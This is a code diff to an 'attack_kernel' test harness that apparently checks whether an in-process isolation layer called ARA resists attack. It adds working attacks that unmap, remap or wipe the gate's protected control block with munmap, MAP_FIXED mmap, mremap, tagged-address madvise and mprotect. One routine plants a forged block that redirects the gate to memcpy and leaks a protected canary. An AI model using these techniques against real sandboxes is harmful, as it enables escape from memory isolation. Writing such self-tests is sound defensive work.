@@ -9,6 +9,7 @@
  * usage: attack_kernel ATTACK   (attack_kernel list: the attacks)
  */
 #define _GNU_SOURCE
+#include <elf.h>
 #include <errno.h>
 #include <linux/filter.h>
 #include <linux/perf_event.h>
@@ -26,6 +27,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "ara/ara.h"
 #include "ara/domains.h"
 #include "attack.h"
 
@@ -281,10 +283,221 @@ static int attack_process_madvise(void)
 		       syscall(SYS_process_madvise, pidfd, &v, 1, MADV_DONTNEED, 0)) ? 0 : 1;
 }
 
+/* --- mapping calls on ARA's pages ------------------------------------- */
+
+static const char *libara_file; /* argv[2]: the libara.so this process runs */
+
+/* Load base of a memfd-backed object ("ara-libara", "ara-entry"), or 0. */
+static uint64_t memfd_base(const char *name)
+{
+	char line[512], want[64];
+	FILE *f = fopen("/proc/self/maps", "r");
+	uint64_t base = 0;
+
+	snprintf(want, sizeof(want), "/memfd:%s (deleted)", name);
+	while (f && fgets(line, sizeof(line), f)) {
+		unsigned long long s, off;
+
+		if (sscanf(line, "%llx-%*x %*s %llx", &s, &off) == 2 && off == 0 && strstr(line, want)) {
+			base = s;
+			break;
+		}
+	}
+	if (f)
+		fclose(f);
+	return base;
+}
+
+/* st_value of a symbol in the file's .symtab (libara.so is not stripped), or 0. */
+static uint64_t symbol(const char *file, const char *name)
+{
+	static unsigned char img[4 << 20];
+	FILE *f = fopen(file, "rb");
+	size_t n = f ? fread(img, 1, sizeof(img), f) : 0;
+	const Elf64_Ehdr *eh = (const Elf64_Ehdr *)img;
+
+	if (f)
+		fclose(f);
+	if (n < sizeof(*eh) || eh->e_shoff + (uint64_t)eh->e_shnum * sizeof(Elf64_Shdr) > n)
+		return 0;
+	const Elf64_Shdr *sh = (const Elf64_Shdr *)(img + eh->e_shoff);
+	for (unsigned int i = 0; i < eh->e_shnum; i++) {
+		if (sh[i].sh_type != SHT_SYMTAB || sh[i].sh_link >= eh->e_shnum ||
+		    sh[i].sh_offset + sh[i].sh_size > n)
+			continue;
+		const Elf64_Sym *sym = (const Elf64_Sym *)(img + sh[i].sh_offset);
+		const Elf64_Shdr *str = &sh[sh[i].sh_link];
+
+		for (size_t j = 0; j < sh[i].sh_size / sizeof(*sym); j++)
+			if (sym[j].st_name < str->sh_size && str->sh_offset + str->sh_size <= n &&
+			    strcmp((const char *)img + str->sh_offset + sym[j].st_name, name) == 0)
+				return sym[j].st_value;
+	}
+	return 0;
+}
+
+struct fake_cb {
+	uint64_t free_stacks, stack_base, stack_stride, dispatch;
+};
+
+static uint64_t control_block; /* the gate's DOM0 data page */
+static _Alignas(16) unsigned char fake_stack[64 * 1024];
+static _Alignas(4096) unsigned char fake_page[4096];
+
+/* The DOM0 rw page of the entry object: the gate's control block. */
+static int find_control_block(void)
+{
+	uint64_t entry = memfd_base("ara-entry");
+
+	for (size_t i = 0; entry && i < n_dom0; i++)
+		if (dom0[i].perms[1] == 'w' && dom0[i].start > entry &&
+		    dom0[i].end - dom0[i].start == 4096 && dom0[i].start - entry < (1u << 24)) {
+			control_block = dom0[i].start;
+			return 0;
+		}
+	printf("FAIL: the gate's control block was not found\n");
+	return -1;
+}
+
+/*
+ * Once App memory sits where the control block was: a fake block whose
+ * "dispatcher" is libara's own memcpy. secure_call then runs, with DOM0's
+ * row, memcpy(x0, x1, x2) for the App's x0 (a buffer), x1 (DOM0's canary)
+ * and x2 (a length), and the App prints what it got.
+ */
+static void exploit_control_block(void)
+{
+	struct fake_cb *cb = (struct fake_cb *)(uintptr_t)control_block;
+	uint64_t base = memfd_base("ara-libara");
+	uint64_t memcpy_at = symbol(libara_file, "memcpy"), canary_at = symbol(libara_file, "dom0_canary");
+	int (*gate3)(uint64_t, uint64_t, uint64_t) =
+		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
+	static char stolen[64];
+
+	if (!base || !memcpy_at || !canary_at) {
+		printf("FAIL: cannot find libara's memcpy and canary in %s\n", libara_file);
+		return;
+	}
+	cb->free_stacks = 1;
+	cb->stack_base = (uint64_t)(uintptr_t)fake_stack;
+	cb->stack_stride = sizeof(fake_stack);
+	cb->dispatch = base + memcpy_at;
+	gate3((uint64_t)(uintptr_t)stolen, base + canary_at, sizeof(stolen) - 1);
+	show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, base + canary_at);
+}
+
+static int attack_munmap(void)
+{
+	long rc;
+
+	if (find_control_block())
+		return 1;
+	rc = munmap((void *)(uintptr_t)control_block, 4096);
+	if (stopped("munmap of the gate's control block", rc))
+		return 0;
+	if (rc == 0 && mmap((void *)(uintptr_t)control_block, 4096, PROT_READ | PROT_WRITE,
+			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != MAP_FAILED)
+		exploit_control_block();
+	return 1;
+}
+
+static int attack_mmap_fixed(void)
+{
+	void *p;
+
+	if (find_control_block())
+		return 1;
+	p = mmap((void *)(uintptr_t)control_block, 4096, PROT_READ | PROT_WRITE,
+		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+	if (stopped("mmap(MAP_FIXED) over the gate's control block", p == MAP_FAILED ? -1 : 0))
+		return 0;
+	exploit_control_block();
+	return 1;
+}
+
+static int attack_mremap_fixed(void)
+{
+	void *p;
+
+	if (find_control_block())
+		return 1;
+	p = mremap(fake_page, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED,
+		   (void *)(uintptr_t)control_block);
+	if (stopped("mremap(MREMAP_FIXED) of an App page onto the gate's control block",
+		    p == MAP_FAILED ? -1 : 0))
+		return 0;
+	exploit_control_block();
+	return 1;
+}
+
+static int attack_munmap_tagged(void)
+{
+	long rc;
+
+	if (find_control_block())
+		return 1;
+	rc = munmap((void *)(uintptr_t)(control_block | (UINT64_C(0x3c) << 56)), 4096);
+	if (stopped("munmap of the control block, tagged address", rc))
+		return 0;
+	if (rc == 0 && mmap((void *)(uintptr_t)control_block, 4096, PROT_READ | PROT_WRITE,
+			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != MAP_FAILED)
+		exploit_control_block();
+	return 1;
+}
+
+static int attack_madvise(void)
+{
+	struct ara_info_arg info;
+	long rc;
+
+	if (find_control_block())
+		return 1;
+	rc = madvise((void *)(uintptr_t)control_block, 4096, MADV_DONTNEED);
+	if (stopped("madvise(MADV_DONTNEED) of the gate's control block", rc))
+		return 0;
+	printf("madvise: ARA's control block wiped; secure_call now says: %s\n",
+	       ara_strerror(secure_call(ARA_FID_INFO, &info)));
+	return 1;
+}
+
+static int attack_madvise_tagged(void)
+{
+	struct ara_info_arg info;
+	long rc;
+
+	if (find_control_block())
+		return 1;
+	/* madvise strips the top-byte tag before it looks the range up. */
+	rc = madvise((void *)(uintptr_t)(control_block | (UINT64_C(0xa5) << 56)), 4096, MADV_DONTNEED);
+	if (stopped("madvise(MADV_DONTNEED) of the control block, tagged address", rc))
+		return 0;
+	printf("madvise: ARA's control block wiped; secure_call now says: %s\n",
+	       ara_strerror(secure_call(ARA_FID_INFO, &info)));
+	return 1;
+}
+
+static int attack_mprotect(void)
+{
+	uint64_t text = 0;
+
+	for (size_t i = 0; i < n_dom0; i++)
+		if (dom0[i].perms[2] == 'x' && !text)
+			text = dom0[i].start;
+	return stopped("mprotect(PROT_NONE) of DOM0 text",
+		       mprotect((void *)(uintptr_t)text, 4096, PROT_NONE)) ? 0 : 1;
+}
+
 static const struct {
 	const char *name;
 	int (*run)(void);
 } attacks[] = {
+	{ "munmap", attack_munmap },
+	{ "munmap_tagged", attack_munmap_tagged },
+	{ "mmap_fixed", attack_mmap_fixed },
+	{ "mremap_fixed", attack_mremap_fixed },
+	{ "madvise", attack_madvise },
+	{ "madvise_tagged", attack_madvise_tagged },
+	{ "mprotect", attack_mprotect },
 	{ "process_vm_readv", attack_process_vm_readv },
 	{ "process_vm_writev", attack_process_vm_writev },
 	{ "ptrace_child", attack_ptrace_child },
@@ -309,10 +522,11 @@ int main(int argc, char **argv)
 {
 	/* Unbuffered: an attack that succeeds may end the process abruptly. */
 	setvbuf(stdout, NULL, _IONBF, 0);
-	if (argc != 2) {
-		fprintf(stderr, "usage: %s ATTACK|list\n", argv[0]);
+	if (argc != 2 && argc != 3) {
+		fprintf(stderr, "usage: %s ATTACK|list [LIBARA_SO]\n", argv[0]);
 		return 2;
 	}
+	libara_file = argc == 3 ? argv[2] : "";
 	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
 		if (strcmp(argv[1], "list") == 0)
 			printf("%s\n", attacks[i].name);
